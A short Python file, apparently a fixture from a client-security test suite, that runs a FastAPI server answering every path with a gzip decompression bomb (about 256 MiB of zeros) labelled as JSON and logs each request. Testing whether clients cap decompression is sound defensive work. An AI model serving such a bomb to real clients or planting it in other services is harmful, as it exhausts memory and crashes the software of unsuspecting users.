"""Attack: a body that only a client without limits would unpack."""

import zlib

from fastapi import FastAPI, Response

from .targets import acted

packer = zlib.compressobj(9, wbits=31)
zeros = bytes(1 << 20)
bomb = b"".join(packer.compress(zeros) for _ in range(256)) + packer.flush()
app = FastAPI()


@app.api_route("/{path:path}", methods=["GET", "POST"])
async def answer(path: str):
    acted("request")
    return Response(bomb, headers={"content-encoding": "gzip"}, media_type="application/json")
